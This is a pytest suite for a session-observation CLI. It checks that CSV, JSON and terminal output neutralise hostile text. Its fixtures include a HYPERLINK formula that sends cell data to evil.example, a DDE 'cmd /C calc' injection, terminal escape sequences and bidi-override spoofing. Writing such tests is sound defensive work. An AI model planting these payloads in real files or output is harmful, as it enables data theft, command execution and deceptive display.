"""Hostile text through every output: spreadsheet formulas, terminal control sequences, bidi
overrides and markup in names, titles, regions and criteria are shown as typed, never run."""

from __future__ import annotations

import csv
import io
import random
import re
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from observe.cli.main import main
from observe.core.frameworks import load_all
from observe.core.models import Framework, Person, Status
from observe.core.untrusted import (
    FORMULA_START,
    escape_controls,
    has_controls,
    json_text,
    spreadsheet_cell,
)
from observe.store import files
from observe.store.workspace import Workspace
from tests.helpers_leads import session_tables, write_tables

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Asha")'
MARKUP_NAME = "[b]Bold[/b] [/]"
OSC_NAME = "+Tom \x1b]0;owned\x07 Price"
CR_NAME = "-Kim\rOverwritten"
BIDI_NAME = "@Sam \u202eexe.txt"
NAMES = [FORMULA_NAME, MARKUP_NAME, OSC_NAME, CR_NAME, BIDI_NAME]
META = {
    "region": "@SUM(1)",
    "partner": "=cmd|' /C calc'!A0",
    "wave": "-1",
    "title": "Module 2 [/] recap \x1b[2J",
    "cohort": "\tTabbed [red]",
    "programme": "\rCR \u2066isolated\u2069",
}
CRITERION_TITLE = "=1+2 [b]R1[/b] [/]"
# What may never reach a terminal raw: C0 but newline, DEL, C1, separators, bidi controls.
RAW_CONTROL = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
)


def hostile_framework(ws: Workspace) -> Framework:
    """The default framework with R1's title made hostile (markup and a formula)."""
    path = ws.criteria_dir / "good-facilitation.toml"
    text = path.read_text(encoding="utf-8")
    head, tail = text.split('id = "R1"', 1)
    tail = re.sub(r'title = "[^"]*"', f'title = "{CRITERION_TITLE}"', tail, count=1)
    path.write_text(head + 'id = "R1"' + tail, encoding="utf-8")
    return load_all(ws.criteria_dir).get("good-facilitation")


def hostile_session(ws: Workspace, framework: Framework, rng: random.Random, i: int) -> Path:
    tables = session_tables(rng, framework, status=Status.COMPLETED)
    doc = tables[files.SESSION_TABLE]["1"]
    people = [NAMES[i % len(NAMES)], NAMES[(i + 1) % len(NAMES)]]
    facilitators = [Person.named(n).model_dump(mode="json") for n in people]
    before = doc["meta"]["facilitators"]
    old = {p["id"]: f["id"] for p, f in zip(before, facilitators, strict=False)}
    doc["meta"].update(META, facilitators=facilitators)
    doc["meta"]["observer"] = Person.named(NAMES[(i + 2) % len(NAMES)]).model_dump(mode="json")
    keep = {f["id"] for f in facilitators}
    for table in (files.RATINGS_TABLE, files.NOTES_TABLE):
        for key, item in list(tables[table].items()):
            if table == files.RATINGS_TABLE:
                item["facilitator"] = old.get(item["facilitator"], item["facilitator"])
                if item["facilitator"] not in keep:
                    del tables[table][key]
            else:
                item["text"] = f"{NAMES[i % len(NAMES)]} {META['title']}"
                item["facilitators"] = []
    return write_tables(ws, tables)


@pytest.fixture(scope="module")
def hostile_ws(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    ws = Workspace(tmp_path_factory.mktemp("hostile") / "ws").ensure(seed=True)
    framework = hostile_framework(ws)
    rng = random.Random(9)
    for i in range(6):
        hostile_session(ws, framework, rng, i)
    return ws


def run(ws: Workspace, *args: str, code: int = 0) -> Any:
    result = CliRunner().invoke(main, ["--workspace", str(ws.root), *args])
    assert result.exit_code == code, result.output
    return result


# ---------------------------------------------------------------- spreadsheets


def test_csv_cells_never_start_a_formula_and_keep_the_text(hostile_ws: Workspace) -> None:
    args = ["--by", "region", "--by", "partner", "--by", "wave", "--by", "facilitator"]
    text = run(hostile_ws, "collate", *args, "--names", "--format", "csv").stdout
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert body
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
            assert not RAW_CONTROL.search(cell), cell
        record = dict(zip(header, row, strict=True))
        assert record["region"] == "'@SUM(1)"
        assert record["partner"] == "'=cmd|' /C calc'!A0"
        assert record["wave"] == "'-1"
        assert record["facilitator"] in {
            "'" + FORMULA_NAME,
            MARKUP_NAME,
            "'+Tom \\x1b]0;owned\\x07 Price",
            "'-Kim\\rOverwritten",
            "'@Sam \\u202eexe.txt",
        }
        assert int(record["n"]) >= 0 and int(record["not_observed"]) >= 0
        if record["mean"]:
            assert 0 <= float(record["mean"]) <= 4  # numbers stay numbers
    titles = {dict(zip(header, r, strict=True))["title"] for r in body}
    assert "'" + CRITERION_TITLE in titles


def test_numbers_stay_numbers_and_only_text_is_neutralised() -> None:
    assert spreadsheet_cell(-0.5) == -0.5
    assert spreadsheet_cell(-3) == -3
    assert spreadsheet_cell("-0.5") == "'-0.5"  # typed text that looks like a number
    assert spreadsheet_cell("Tom") == "Tom"
    assert spreadsheet_cell("a = b") == "a = b"
    assert spreadsheet_cell("\tx") == "'\\tx"
    assert spreadsheet_cell("two\nlines") == "two\nlines"


@given(st.text())
def test_any_text_becomes_a_cell_that_is_not_a_formula(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert not cell.startswith(FORMULA_START)
    assert not RAW_CONTROL.search(cell)
    if not has_controls(text.replace("\n", "")):
        assert cell in (text, "'" + text)  # otherwise intact


# ---------------------------------------------------------------- the escapes themselves


@given(st.text())
def test_escaped_text_has_no_control_left_and_is_stable(text: str) -> None:
    shown = escape_controls(text)
    assert not RAW_CONTROL.search(shown) and "\n" not in shown
    assert escape_controls(shown) == shown
    assert "\n" not in shown
    kept = escape_controls(text, newlines=True)
    assert kept.count("\n") == text.count("\n")


def test_escapes_name_what_was_there() -> None:
    assert escape_controls("a\x1b]0;t\x07b\rc\u202ed\x9be") == "a\\x1b]0;t\\x07b\\rc\\u202ed\\x9be"
    assert escape_controls("Siân O'Neil 👋 [b]") == "Siân O'Neil 👋 [b]"


@given(st.recursive(st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))
def test_json_text_decodes_to_the_same_data_with_no_raw_control(data: Any) -> None:
    import json

    text = json_text(data)
    assert not RAW_CONTROL.search(text)
    assert json.loads(text) == data


# ---------------------------------------------------------------- the command line's text


def assert_no_raw_control(text: str) -> None:
    found = RAW_CONTROL.search(text)
    if found is not None:
        around = text[max(0, found.start() - 40) : found.end() + 40]
        raise AssertionError(f"raw {found.group()!r} at {found.start()}: {around!r}")


def test_sessions_table_shows_escapes_not_sequences(hostile_ws: Workspace) -> None:
    result = run(hostile_ws, "sessions")
    assert_no_raw_control(result.output)
    assert "+Tom \\x1b]0;owned\\x07 Price" in result.output
    assert "-Kim\\rOverwritten" in result.output
    assert "@Sam \\u202eexe.txt" in result.output
    lines = result.output.splitlines()
    assert len(lines) == 2 + 6  # the header, its rule, one line per session


def test_sessions_json_escapes_every_control_and_keeps_the_data(hostile_ws: Workspace) -> None:
    import json

    result = run(hostile_ws, "sessions", "--format", "json")
    assert_no_raw_control(result.output)
    rows = json.loads(result.output)
    names = {name for row in rows for name in row["facilitators"]}
    assert names == set(NAMES)


@pytest.mark.parametrize("fmt", ["table", "json", "csv"])
def test_collate_with_names_prints_no_control_sequence(hostile_ws: Workspace, fmt: str) -> None:
    args = ["--by", "facilitator", "--by", "region", "--names", "--format", fmt]
    result = run(hostile_ws, "collate", *args)
    assert_no_raw_control(result.output)
    if fmt == "table":
        assert "+Tom \\x1b]0;owned\\x07 Price" in result.output
        assert CRITERION_TITLE[:12] in result.output


def test_collate_names_in_coverage_and_headings_are_escaped(hostile_ws: Workspace) -> None:
    result = run(hostile_ws, "collate", "--names", "--by", "wave")
    assert_no_raw_control(result.output)
    assert "-Kim\\rOverwritten" in result.output  # the coverage table names people


def test_a_facilitator_filter_echoed_in_an_error_is_escaped(hostile_ws: Workspace) -> None:
    result = run(hostile_ws, "collate", "--facilitator", "nobody\x1b]0;x\x07", code=2)
    assert_no_raw_control(result.output)
    assert len(result.output.strip().splitlines()) == 1


def test_conflict_previews_are_escaped(tmp_path: Path, hostile_ws: Workspace) -> None:
    import orjson

    ws = Workspace(tmp_path / "ws").ensure(seed=True)
    source = sorted(hostile_ws.sessions_dir.glob("*.json"))[0]
    (ws.sessions_dir / source.name).write_bytes(source.read_bytes())
    data = orjson.loads(source.read_bytes())
    note = next(iter(data[files.NOTES_TABLE].values()))
    note["text"] = "changed \x1b[31m\u202eelsewhere\r"
    other = tmp_path / source.name
    other.write_bytes(orjson.dumps(data))
    run(ws, "import", str(other))
    result = run(ws, "conflicts")
    assert_no_raw_control(result.output)
    assert "\\x1b[31m" in result.output


def test_every_line_the_command_line_prints_goes_through_say() -> None:
    """One way out for text: ``say`` escapes control characters, so no command forgets to."""
    import observe.cli

    folder = Path(observe.cli.__file__).parent
    raw = [
        f"{path.name}:{n}"
        for path in sorted(folder.glob("*.py"))
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if re.search(r"\b(click\.echo|click\.secho|print)\(", line)
    ]
    assert [r.split(":")[0] for r in raw] == ["common.py"], raw  # the one in say()


HOSTILE_TEXT = st.text(
    alphabet=st.sampled_from(list("=+-@[]/$\\ab \t\r\n\x1b\x07\x9b\u202e\u2066\x00\x7f")),
    max_size=30,
)


@given(st.lists(st.lists(HOSTILE_TEXT, min_size=3, max_size=3), max_size=5))
def test_a_table_of_any_text_keeps_one_line_per_row_and_no_raw_control(
    rows: list[list[str]],
) -> None:
    from observe.cli.common import format_table

    text = format_table(["a", "b", "c"], rows)
    assert_no_raw_control(text)
    assert len(text.split("\n")) == 2 + len(rows)


@given(st.lists(HOSTILE_TEXT, min_size=1, max_size=6))
def test_a_csv_row_of_any_text_reads_back_as_text_not_formulas(cells: list[str]) -> None:
    from observe.core.untrusted import spreadsheet_row

    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(spreadsheet_row(cells))
    [back] = list(csv.reader(io.StringIO(out.getvalue())))
    assert len(back) == len(cells)
    for cell in back:
        assert not cell.startswith(FORMULA_START) and not RAW_CONTROL.search(cell)
